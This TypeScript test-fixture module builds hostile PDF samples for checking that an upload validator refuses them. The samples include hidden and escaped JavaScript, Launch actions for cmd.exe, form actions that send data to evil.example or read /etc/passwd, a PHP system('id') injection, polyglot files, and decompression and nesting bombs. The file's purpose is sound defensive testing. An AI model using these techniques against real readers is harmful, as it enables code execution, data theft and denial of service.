import { PDFDocument } from "@cantoo/pdf-lib";
import type { FileRefusal } from "../../../src/domain/kernel/file-limits.ts";
import { zip } from "./archives.ts";
import type { HostileFile } from "./hostile-file.ts";
import { objectStream, opening, packed, pdf, revised, stream, written } from "./pdfs.ts";
import { jpeg } from "./pictures.ts";

const MEGABYTE = 1024 * 1024;
const SCRIPT = "/S /JavaScript /JS (app.alert(1))";
const HIDDEN = `9 0 obj << ${SCRIPT} >> endobj`;

/** PDFs that do something, hide something, or keep their reader busy. */
export async function hostilePdfs(): Promise<HostileFile[]> {
  const groups: [FileRefusal, [string, Buffer][]][] = [
    ["active", [...scripted(), ...(await byLibrary()), ...hidden()]],
    ["linked", linked()],
    ["damaged", [...foreign(await jpeg(60, 40)), ...broken(), ...exhausting()]],
    ["locked", await locked()],
  ];
  return groups.flatMap(([expected, files]) =>
    files.map(([what, bytes]) => ({
      what,
      bytes,
      expected,
      name: "fuehrerschein.pdf",
      declaredType: "application/pdf",
    })),
  );
}

function scripted(): [string, Buffer][] {
  return [
    ["script on opening", pdf(opening(SCRIPT))],
    ["script by an escaped name", pdf(opening("/S /J#61vaScript /J#53 (app.alert(1))"))],
    [
      "script among the names",
      pdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>` }),
    ],
    ["script on a page's opening", pdf({ page: `/AA << /O << ${SCRIPT} >> >>` })],
    [
      "action on closing",
      pdf({ catalog: "/AA << /WC << /S /URI /URI (http://evil.example) >> >>" }),
    ],
    ["program to launch", pdf(opening("/S /Launch /F (cmd.exe)"))],
    ["program to launch by a link", pdf(link("/S /Launch /Win << /F (cmd.exe) >>"))],
    ["web page on opening", pdf(opening("/S /URI /URI (http://evil.example)"))],
    [
      "web page after a jump",
      pdf(opening("/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example) >>")),
    ],
    [
      "web page on opening, by reference",
      pdf({ catalog: "/OpenAction 5 0 R", objects: ["<< /S /URI /URI (http://evil.example) >>"] }),
    ],
    ["printing on opening", pdf(opening("/S /Named /N /Print"))],
    ["form that sends itself", pdf(link("/S /SubmitForm /F (http://evil.example)"))],
    ["form that fetches data", pdf(link("/S /ImportData /F (/etc/passwd)"))],
    ["jump into an embedded file", pdf(link("/S /GoToE /D [0 /Fit]"))],
    [
      "jump into a file of the network",
      pdf(link("/S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit]")),
    ],
    ["film with script", pdf(link("/S /Rendition /JS (app.alert(1))"))],
    ["rich media", pdf({ page: "/Annots [<< /Type /Annot /Subtype /RichMedia >>]" })],
    ["model in 3D", pdf({ page: "/Annots [<< /Type /Annot /Subtype /3D >>]" })],
    [
      "form of XML",
      pdf({ catalog: "/AcroForm << /XFA 5 0 R >>", objects: [stream("", "<xdp:xdp/>")] }),
    ],
    ["embedded file", pdf({ objects: [stream("/Type /EmbeddedFile", "MZ")] })],
    [
      "embedded file without its type",
      pdf({ page: "/AF [<< /Type /Filespec /EF << /F 5 0 R >> >>]", objects: [stream("", "MZ")] }),
    ],
    ["attached file on a page", pdf({ page: "/Annots [<< /Subtype /FileAttachment >>]" })],
  ];
}

/** Whoever clicks into them is led away. */
function linked(): [string, Buffer][] {
  const uri = "/A << /S /URI /URI (https://evil.example) >>";
  const strip = (from: number) => `<< /Subtype /Link /Rect [0 ${from} 595 ${from + 90}] ${uri} >>`;
  return [
    ["link over the whole page", pdf(link("/S /URI /URI (https://evil.example)"))],
    [
      "links that cover the page together",
      pdf({ page: `/Annots [${[0, 90, 180, 270, 360].map(strip).join(" ")}]` }),
    ],
    [
      "button over the page, by way of references",
      pdf({
        page: "/Annots 5 0 R",
        objects: [
          "[6 0 R]",
          "<< /Subtype /Widget /Rect 8 0 R /A 7 0 R >>",
          "<< /S /URI /URI (https://evil.example) >>",
          "[595 842 0 0]",
        ],
      }),
    ],
    [
      "jump within the document that goes on to a page of the web",
      pdf(link("/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >>")),
    ],
  ];
}

async function byLibrary(): Promise<[string, Buffer][]> {
  return [
    [
      "script in an object stream",
      await drawn((document) => document.addJavaScript("a", "app.alert(1)")),
    ],
    [
      "embedded file in an object stream",
      await drawn((document) => document.attach(Buffer.from("MZ"), "rechnung.exe")),
    ],
  ];
}

function hidden(): [string, Buffer][] {
  const plain = pdf(opening(SCRIPT));
  return [
    ["script in a packed object", pdf({ objects: [objectStream(9, `<< ${SCRIPT} >>`)] })],
    [
      "script in a packed object without its type",
      pdf({ objects: [packed("/N 1 /First 4", `9 0 << ${SCRIPT} >>`)] }),
    ],
    [
      "script in a later revision",
      revised(pdf(), 1, `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${SCRIPT} >> >>`),
    ],
    ["script in an earlier revision", revised(plain, 1, "<< /Type /Catalog /Pages 2 0 R >>")],
    ["script inside of a string", pdf({ objects: [`(${HIDDEN})`] })],
    ["script inside of a comment", pdf({ header: `%PDF-1.7\n%${HIDDEN}\n` })],
    ["script inside of a picture", pdf({ objects: [stream("/Subtype /Image", HIDDEN)] })],
    [
      "script between false ends of a stream",
      pdf({ objects: [stream("", `a\nendstream\nendobj\n${HIDDEN}\n8 0 obj <<>> stream\n`)] }),
    ],
    [
      "script behind comments in a name's dictionary",
      pdf({ catalog: "/OpenAction<</S%\n/JavaScript%\r/JS%\n(a)>>" }),
    ],
    ["web page in a comment", pdf({ header: "%PDF-1.7\n%<script>alert(1)</script>\n" })],
    ["PHP in a string", pdf({ trailer: "/Info << /Title (<?php system('id');) >>" })],
  ];
}

function foreign(photo: Buffer): [string, Buffer][] {
  const page = Buffer.from("<!doctype html><script>alert(1)</script>\n");
  const archive = zip("ausweis.exe", "MZ", 600);
  return [
    ["PDF behind a web page", Buffer.concat([page, pdf()])],
    ["PDF behind an empty line", Buffer.concat([Buffer.from("\n"), pdf()])],
    ["PDF in front of a ZIP", pdf({ tail: zip("ausweis.exe", "MZ") })],
    ["PDF in front of a web page", pdf({ tail: page })],
    ["PDF in front of a picture", pdf({ tail: photo })],
    ["PDF around a ZIP", pdf({ objects: [stream("", archive)] })],
    ["PDF inside of a tape archive", pdf({ header: `%PDF-1.7\n%${"a".repeat(247)}ustar\n` })],
    ["PDF around a RAR", pdf({ header: "%PDF-1.7\n%Rar!\x1a\x07\x01\0\n" })],
    [
      "object that only careless readers find",
      pdf({ objects: [stream("", "9 0 obj << /A 1 >> endobj")] }),
    ],
    [
      "packed objects that only careless readers find",
      pdf({ objects: [stream("", "<< /Type /ObjStm >>")] }),
    ],
  ];
}

function broken(): [string, Buffer][] {
  const whole = pdf();
  return [
    ["empty PDF", Buffer.alloc(0)],
    ["PDF of a header alone", Buffer.from("%PDF-1.7\n")],
    ["PDF of a header and an end", Buffer.from("%PDF-1.7\n%%EOF\n")],
    ["PDF cut off", whole.subarray(0, whole.length - 60)],
    [
      "PDF of noise",
      Buffer.concat([
        Buffer.from("%PDF-1.7\n"),
        Buffer.alloc(9_000, "\x93\x11a("),
        Buffer.from("%%EOF"),
      ]),
    ],
    [
      "PDF without pages",
      written(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
    ],
    ["PDF without a catalog", written(["<< /Type /Font >>"])],
    [
      "stream without an end",
      Buffer.from(whole.toString("latin1").replace("endstream", "endstraem"), "latin1"),
    ],
    [
      "packed objects in an unknown packing",
      pdf({ objects: [stream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", "9 0 <<>>")] }),
    ],
    [
      "packed objects behind a reference",
      pdf({ objects: [stream("/Type /ObjStm /N 1 /First 4 /Filter 6 0 R", "9 0 <<>>")] }),
    ],
    [
      "packed objects that break off",
      pdf({ objects: [stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", "x\x9c")] }),
    ],
  ];
}

function exhausting(): [string, Buffer][] {
  const loop = "<< /Type /Pages /Kids [2 0 R] /Count 1 >>";
  return [
    ["packed objects that lie in each other", pdf({ objects: [overlapping(50_000)] })],
    [
      "packed dictionaries, 20 MB of them",
      pdf({ objects: [objectStream(9, `[${"<<>>".repeat(5 * MEGABYTE)}]`)] }),
    ],
    ["pages that contain themselves", written(["<< /Type /Catalog /Pages 2 0 R >>", loop])],
    ["reference to itself", written(["<< /Type /Catalog /Pages 2 0 R >>", "2 0 R"])],
    ["arrays 100,000 deep", pdf({ objects: ["[".repeat(100_000) + "]".repeat(100_000)] })],
    ["dictionaries 100,000 deep", pdf({ objects: ["<</A".repeat(100_000)] })],
    ["strings that never close", pdf({ objects: ["(".repeat(MEGABYTE)] })],
    [
      "table of 4 billion references",
      Buffer.from(pdf().toString("latin1").replace("xref\n0 5", "xref\n0 4294967295"), "latin1"),
    ],
    [
      "document of 2 billion objects",
      pdf().includes("/Size 5")
        ? Buffer.from(pdf().toString("latin1").replace("/Size 5", "/Size 2147483647"), "latin1")
        : pdf(),
    ],
    ["8 MB of empty dictionaries", pdf({ objects: [`[${"<<>>".repeat(2 * MEGABYTE)}]`] })],
    ["8 MB of open arrays", pdf({ objects: ["[ ".repeat(4 * MEGABYTE)] })],
    [
      "packed objects that unfold to 200 MB",
      pdf({ objects: [packed("/Type /ObjStm /N 1 /First 4", Buffer.alloc(200 * MEGABYTE, " "))] }),
    ],
    [
      "page that unfolds to 200 MB",
      pdf({ objects: [packed("", Buffer.alloc(200 * MEGABYTE, "q "))] }),
    ],
    [
      "page that is packed twice",
      pdf({ objects: [stream("/Filter [/FlateDecode /FlateDecode]", "x")] }),
    ],
    [
      "picture of 10,000 megapixels",
      pdf({ objects: [stream("/Subtype /Image /Width 100000 /Height 100000", "x")] }),
    ],
  ];
}

/** Every number stands for the same long text. */
function overlapping(count: number) {
  const head = Array.from({ length: count }, (_, index) => `${index + 9} 0`).join(" ");
  const text = `(${"a".repeat(MEGABYTE)})`;
  return packed(`/Type /ObjStm /N ${count} /First ${head.length + 1}`, `${head} ${text}`);
}

async function locked(): Promise<[string, Buffer][]> {
  const byLibrary = await drawn((document) =>
    document.encrypt({ userPassword: "geheim", ownerPassword: "geheim" }),
  );
  return [
    ["PDF behind a password", byLibrary],
    [
      "PDF that is only called encrypted",
      pdf({ trailer: "/Encrypt << /Filter /Standard /V 1 >>" }),
    ],
    ["encrypted PDF with a script", pdf({ ...opening(SCRIPT), trailer: "/Encrypt 5 0 R" })],
  ];
}

async function drawn(change: (document: PDFDocument) => unknown) {
  const document = await PDFDocument.create();
  document.addPage([595, 842]);
  await change(document);
  return Buffer.from(await document.save());
}

function link(action: string) {
  return { page: `/Annots [<< /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>]` };
}
